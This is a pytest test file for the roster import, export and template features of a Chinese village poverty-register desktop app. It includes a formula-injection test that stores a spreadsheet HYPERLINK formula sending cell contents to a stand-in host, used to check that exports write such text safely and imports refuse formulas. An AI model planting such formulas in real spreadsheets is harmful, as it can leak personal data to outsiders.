"""Roster import (valid households only, all or nothing), export, template and safe writing."""

import os
import shutil
from dataclasses import asdict
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import func, select

from fupin_desktop.db.models import ChangeLog, Household, Member, VillagerGroup
from fupin_desktop.db.session import Database, open_database
from fupin_desktop.domain import idcard
from fupin_desktop.domain.household import HouseholdForm, MemberForm
from fupin_desktop.domain.progress import Progress
from fupin_desktop.errors import Cancelled, StorageError
from fupin_desktop.services.households import get_household, save_household
from fupin_desktop.services.roster import (
    RosterChangedError,
    RosterFileError,
    export_roster,
    import_roster,
    importer,
    preview_roster,
    write_template,
    writer,
)
from fupin_desktop.services.search import HouseholdQuery
from fupin_desktop.services.setup import init_village
from fupin_desktop.services.village import current_village
from tests.services.roster_fixtures import fresh_village_like

MESSY = Path(__file__).parents[1] / "data" / "messy_roster.xlsx"
TODAY = date(2024, 3, 1)


def preview(db: Database, source, today: date | None = TODAY, **options):  # type: ignore[no-untyped-def]
    with db.reading() as s:
        return preview_roster(s, source, today=today, **options)


def register(db: Database) -> dict[str, list[str]]:
    """Household number → its members' names, of live households."""
    with db.reading() as s:
        rows = s.execute(select(Household.number, Member.name).join(Member).where(
            Household.deleted_at.is_(None), Member.deleted_at.is_(None)).order_by(Household.number, Member.name))
        found: dict[str, list[str]] = {}
        for number, name in rows:
            found.setdefault(number, []).append(name)
        return found


def count(db: Database, model) -> int:  # type: ignore[no-untyped-def]
    with db.reading() as s:
        return s.scalar(select(func.count()).select_from(model))


# -- import ---------------------------------------------------------------------------------------------


def test_import_brings_in_only_the_valid_households(db):
    db.take_changes()
    result = import_roster(db, preview(db, MESSY))
    assert (result.households, result.members, result.skipped) == (3, 7, 8)
    assert result.summary() == "已导入3户7人，有问题未导入8户"
    assert db.take_changes().tables == {"household", "member"}  # what the 农户 list and others refresh for
    assert register(db) == {"001": ["张三明", "张小明", "李秀英"], "002": ["刘丽", "王小红"], "010": ["陈刚", "陈小宝"]}
    with db.reading() as s:
        first = s.scalar(select(Household).where(Household.number == "001"))
        assert first.attributes == ["canji", "dibao"] and first.main_cause == "01" and first.phone == "13800138000"
        son = s.scalar(select(Member).where(Member.name == "张小明"))
        assert son.id_number.endswith("X") and son.sex == "男" and son.birth_date == date(2008, 9, 1)
        assert son.name_initials == "zxm" and son.schooling_stage == "初中"
        logged = s.scalar(select(func.count()).select_from(ChangeLog).where(ChangeLog.table_name.in_(
            ["household", "member"])))
        assert logged == 3 + 7  # every row in the change log, as a sync bundle needs


def test_import_straight_from_a_file(db):
    assert import_roster(db, MESSY, today=TODAY).households == 3
    assert sorted(register(db)) == ["001", "002", "010"]


def test_a_file_with_nothing_valid_imports_nothing(db, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["户编号", "姓名", "与户主关系", "身份证号", "户状态"])
    book.active.append(["1", "张三", "户主", "123", "一般农户"])
    book.save(tmp_path / "bad.xlsx")
    result = import_roster(db, tmp_path / "bad.xlsx")
    assert (result.households, result.members, result.skipped) == (0, 0, 1)
    assert count(db, Household) == 0


def test_cancel_before_the_commit_writes_nothing(db, monkeypatch):
    monkeypatch.setattr(importer, "CHUNK", 1)
    logged = count(db, ChangeLog)
    calls: list[tuple[int, int]] = []
    with pytest.raises(Cancelled):
        import_roster(db, preview(db, MESSY), progress=Progress(report=lambda d, t, _m: calls.append((d, t)),
                                                                cancelled=lambda: len(calls) >= 2))
    assert calls == [(1, 3), (2, 3)]  # two households were written, then rolled back
    assert count(db, Household) == count(db, Member) == 0 and count(db, ChangeLog) == logged


def test_progress_is_reported(db, monkeypatch):
    monkeypatch.setattr(importer, "CHUNK", 2)
    calls: list[tuple[int, int]] = []
    import_roster(db, preview(db, MESSY), progress=Progress(report=lambda d, t, _m: calls.append((d, t))))
    assert calls == [(2, 3), (3, 3)]


def test_a_register_changed_since_the_preview_imports_nothing(db):
    shown = preview(db, MESSY)
    head = shown.ok_households[2].members[0]  # 陈刚 of 010, typed into the register meanwhile
    with db.transaction() as s:
        save_household(s, None, HouseholdForm(number="100", status="一般农户"),
                       [MemberForm(name=head.name, id_number=head.id_number, relation="户主")])
    with pytest.raises(RosterChangedError, match="预览之后登记簿已有变化，未导入任何农户：第21行"):
        import_roster(db, shown)
    assert list(register(db)) == ["100"]


def test_bulk_import_stores_what_save_household_stores(db, db_path, tmp_path):
    """The importer writes rows itself for speed; they must be what the core would write."""
    other_path = tmp_path / "other.db"
    shutil.copy(db_path, other_path)
    shown = preview(db, MESSY)
    import_roster(db, shown, today=TODAY)
    other = open_database(other_path)
    try:
        with other.transaction() as s:
            for h in shown.ok_households:
                save_household(s, None, h.form, h.members, today=TODAY)
        assert _register_dump(db) == _register_dump(other)
        assert _logged_fields(db) == _logged_fields(other)
    finally:
        other.close()


def _register_dump(db: Database) -> list[dict[str, object]]:
    with db.reading() as s:
        ids = s.scalars(select(Household.id).order_by(Household.number)).all()
        dump = []
        for hid in ids:
            detail = asdict(get_household(s, hid, today=TODAY))
            detail.pop("id")
            for m in detail["members"]:
                m.pop("id")
            dump.append(detail)
        initials = sorted(s.execute(select(Member.name, Member.name_initials)).all())
        return [*dump, {"initials": initials}]


def _logged_fields(db: Database) -> list[tuple[str, str, list[str]]]:
    with db.reading() as s:
        rows = s.execute(select(ChangeLog.table_name, ChangeLog.op, ChangeLog.fields).where(
            ChangeLog.table_name.in_(["household", "member"])))
        return sorted((table, op, sorted(k for k in fields if not k.endswith("_id"))) for table, op, fields in rows)


# -- export and round trip ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo(demo_copy, tmp_path_factory: pytest.TempPathFactory) -> Path:  # type: ignore[no-untyped-def]
    return demo_copy(tmp_path_factory.mktemp("demo") / "demo.db")


def test_round_trip_of_the_demo_village(demo, tmp_path):
    source = open_database(demo)
    target = fresh_village_like(source, tmp_path / "fresh.db")
    try:
        with source.reading() as s:
            exported = export_roster(s, tmp_path / "demo.xlsx")
        assert (exported.households, exported.members) == (437, 1688)
        shown = preview(target, tmp_path / "demo.xlsx", today=None)  # the demo village is made as of today
        assert shown.problems == [] and shown.summary() == "可导入437户1688人，有问题0户"
        assert import_roster(target, shown).households == 437
        assert _by_number(source) == _by_number(target)
    finally:
        source.close()
        target.close()


def _by_number(db: Database) -> dict[str, dict[str, object]]:
    """Every household and member field the roster carries (incomes are not in a roster)."""
    with db.reading() as s:
        dump = {}
        for hid, number in s.execute(select(Household.id, Household.number).where(Household.deleted_at.is_(None))):
            detail = asdict(get_household(s, hid, today=TODAY))
            for key in ("id", "incomes"):
                detail.pop(key)
            detail["attributes"] = sorted(detail["attributes"])  # a set: the core stores it sorted
            detail["members"] = sorted(({k: v for k, v in m.items() if k != "id"} for m in detail["members"]),
                                       key=lambda m: m["id_number"])
            dump[number] = detail
        return dump


def test_export_of_the_list_view(demo, tmp_path):
    db = open_database(demo)
    try:
        query = HouseholdQuery(group="新沟", status="一般农户", sort="number", descending=True, limit=5, offset=5)
        with db.reading() as s:
            result = export_roster(s, tmp_path / "view.xlsx", query)
            groups = {g for g, in s.execute(select(VillagerGroup.name))}
        book = openpyxl.load_workbook(tmp_path / "view.xlsx", read_only=True)
        rows = list(book.worksheets[0].iter_rows(values_only=True))
        book.close()
        header = rows[0]
        numbers = list(dict.fromkeys(r[header.index("户编号")] for r in rows[1:]))
        assert len(numbers) == result.households > 5  # paging is not part of the view
        assert numbers == sorted(numbers, reverse=True)
        assert {r[header.index("村民组")] for r in rows[1:]} == {"新沟"} and "新沟" in groups
        assert {r[header.index("户状态")] for r in rows[1:]} == {"一般农户"}
        assert len(rows) - 1 == result.members
    finally:
        db.close()


def test_exported_layout(db, tmp_path):
    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
    with db.transaction() as s:
        save_household(s, None, HouseholdForm(number="001", status="未脱贫", group="一组", main_cause="02",
                                              attributes=["dibao"]),
                       [MemberForm(name="张三", id_number=number, relation="户主", dibao=True)])
    with db.reading() as s:
        export_roster(s, tmp_path / "one.xlsx")
    book = openpyxl.load_workbook(tmp_path / "one.xlsx")
    ws = book["花名册"]
    values = {ws.cell(1, c).value: ws.cell(2, c).value for c in range(1, ws.max_column + 1)}
    assert values["身份证号"] == number  # text, every digit
    assert values["主要致贫原因"] == "因残" and values["户属性"] == "低保户" and values["低保"] == "是"
    assert values["户主姓名"] == "张三" and values["出生日期"].date() == date(1970, 1, 1)
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    assert book["下拉选项"].sheet_state == "hidden"


def test_template(db, tmp_path):
    with db.reading() as s:
        path = write_template(tmp_path / "模板.xlsx", s)
    book = openpyxl.load_workbook(path)
    ws = book["花名册"]
    headers = [c.value for c in ws[1]]
    assert headers[:6] == ["户编号", "村民组", "户主姓名", "姓名", "与户主关系", "身份证号"]
    assert ws.max_row == 1 and ws.freeze_panes == "A2"
    id_letter = openpyxl.utils.get_column_letter(headers.index("身份证号") + 1)
    assert ws.column_dimensions[id_letter].number_format == "@" and ws.column_dimensions[id_letter].width == 22
    lists = {str(v.sqref).split(":")[0]: v for v in ws.data_validations.dataValidation}
    relation = lists[openpyxl.utils.get_column_letter(headers.index("与户主关系") + 1) + "2"]
    options = book["下拉选项"]
    listed = [c.value for c in options[relation.formula1.split("!")[1].replace("$", "").split(":")[0][0]][1:]
              if c.value]
    assert listed[:3] == ["户主", "配偶", "之子"]
    groups = [c.value for c in options[1]]
    assert "村民组" in groups and "户状态" in groups and "主要致贫原因" in groups
    assert "填写说明" in book.sheetnames
    empty = preview(db, path)
    assert empty.header_row == 1 and empty.households == [] and empty.problems == []


def test_template_without_a_database(tmp_path):
    book = openpyxl.load_workbook(write_template(tmp_path / "t.xlsx"))
    causes = [c.value for c in book["下拉选项"]["A"]]  # first list column
    assert causes[0] == "与户主关系"
    assert "因病" in [c.value for row in book["下拉选项"].iter_rows() for c in row]


# -- safe writing -----------------------------------------------------------------------------------


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".tmp"))


def test_a_locked_target_keeps_the_old_file(db, tmp_path, monkeypatch):
    target = tmp_path / "花名册.xlsx"
    target.write_bytes(b"old roster")

    def locked(src, dst):  # type: ignore[no-untyped-def]
        raise PermissionError(13, "being used by another process")

    monkeypatch.setattr(os, "replace", locked)
    with db.reading() as s, pytest.raises(StorageError, match="正在 Excel 或 WPS 中打开"):
        export_roster(s, target)
    assert target.read_bytes() == b"old roster" and _leftovers(tmp_path) == []


def test_unwritable_folder_full_disk_and_missing_folder(tmp_path, monkeypatch):
    def refuse(book, path):  # type: ignore[no-untyped-def]
        Path(path).write_bytes(b"half")  # a half-written temporary file must not stay behind
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(openpyxl.Workbook, "save", refuse)
    with pytest.raises(StorageError, match="无法写入 t.xlsx：没有权限.*请换一个位置保存"):
        write_template(tmp_path / "t.xlsx")
    assert list(tmp_path.iterdir()) == []

    def full(book, path):  # type: ignore[no-untyped-def]
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(openpyxl.Workbook, "save", full)
    with pytest.raises(StorageError, match="磁盘空间已满"):
        write_template(tmp_path / "t.xlsx")
    monkeypatch.undo()
    with pytest.raises(StorageError, match="不存在"):
        write_template(tmp_path / "拔掉的U盘" / "t.xlsx")
    with pytest.raises(RosterFileError, match=r"应以 \.xlsx 结尾"):
        write_template(tmp_path / "t.xls")


def test_cancelled_export_writes_no_file(demo, tmp_path, monkeypatch):
    monkeypatch.setattr(writer, "PROGRESS_EVERY", 10)
    db = open_database(demo)
    try:
        with db.reading() as s, pytest.raises(Cancelled):
            export_roster(s, tmp_path / "x.xlsx", progress=Progress(cancelled=lambda: True))
    finally:
        db.close()
    assert list(tmp_path.iterdir()) == []


def test_a_read_only_account_exports_masked_id_numbers(db, tmp_path):
    """A 只读 account sees ID numbers masked on screen; its export must not reveal them either."""
    from fupin_desktop.services import accounts

    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
    with db.transaction() as s:
        save_household(s, None, HouseholdForm(number="001", status="一般农户", group="一组"),
                       [MemberForm(name="张三明", id_number=number, relation="户主")])
        accounts.create_first_account(s, username="liming", full_name="李明", password="shuji2026")
        accounts.create_user(s, username="guest", full_name="赵乡干", role="只读", password="xiang2026")

    def exported_ids(who: str, password: str) -> list[str]:
        accounts.sign_in(db, who, password)
        with db.reading() as s:
            export_roster(s, tmp_path / f"{who}.xlsx")
        book = openpyxl.load_workbook(tmp_path / f"{who}.xlsx", read_only=True)
        rows = list(book.worksheets[0].iter_rows(values_only=True))
        book.close()
        return [r[rows[0].index("身份证号")] for r in rows[1:]]

    assert exported_ids("guest", "xiang2026") == [idcard.mask(number)]
    assert exported_ids("liming", "shuji2026") == [number]


# -- formulas (issue 19) ----------------------------------------------------------------------------------

LOOKS_LIKE_FORMULAS = {"address": '=HYPERLINK("http://x.example/?q="&A2,"点我")'}


def test_text_that_looks_like_a_formula_is_written_as_text_and_round_trips(db, tmp_path):
    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
    with db.transaction() as s:
        save_household(s, None, HouseholdForm(number="001", status="未脱贫", group="一组", main_cause="02",
                                              address=LOOKS_LIKE_FORMULAS["address"], note="+1"),
                       [MemberForm(name="张三", id_number=number, relation="户主", note="@SUM(A1:A9)",
                                   employment_place="-广州")])
    with db.reading() as s:
        export_roster(s, tmp_path / "one.xlsx")
    book = openpyxl.load_workbook(tmp_path / "one.xlsx")  # formulas as formulas, if any were written
    ws = book["花名册"]
    cells = {ws.cell(1, c).value: ws.cell(2, c) for c in range(1, ws.max_column + 1)}
    assert all(c.data_type != "f" for c in cells.values())
    assert cells["住址"].value == LOOKS_LIKE_FORMULAS["address"] and cells["住址"].quotePrefix
    assert cells["户备注"].value == "+1" and cells["成员备注"].value == "@SUM(A1:A9)"

    target = init_village(tmp_path / "fresh.db", village_code="410182104201", village_name="新沟村",
                          township="汜水镇", county="荥阳市")
    try:
        with target.transaction() as s:
            s.add(VillagerGroup(village_id=current_village(s).id, name="一组", sort_order=1))
        shown = preview(target, tmp_path / "one.xlsx")
        assert shown.problems == [] and import_roster(target, shown).households == 1
        assert _by_number(target)["001"] == _by_number(db)["001"]  # every field exactly
    finally:
        target.close()


def test_import_refuses_formulas_instead_of_reading_their_values(db, tmp_path):
    number = idcard.make("410182", date(1970, 1, 1), 1, "男")
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["户编号", "村民组", "姓名", "与户主关系", "身份证号", "户状态", "住址"])
    ws.append(["001", "一组", "=1+1", "户主", number, "未脱贫", "=A1"])
    ws.append(["002", "一组", "李四", "户主", f'="{number[:-1]}"&"{number[-1]}"', "未脱贫", "新沟"])
    ws.append(["003", "一组", "=1+1", "户主", idcard.make("410182", date(1971, 1, 1), 1, "男"), "未脱贫", "新沟"])
    ws["G4"].data_type = "s"  # a name that is literally "=1+1" is not a name either
    ws["C4"].data_type = "s"
    book.save(tmp_path / "f.xlsx")
    shown = preview(db, tmp_path / "f.xlsx")
    messages = [str(p) for p in shown.problems]
    assert sum("单元格是公式（=1+1）" in m for m in messages) == 1
    assert any("单元格是公式（=A1）" in m for m in messages)
    assert any("身份证号" in m and "单元格是公式" in m for m in messages)
    assert any("像是公式，不是姓名" in m for m in messages)
    assert not shown.importable
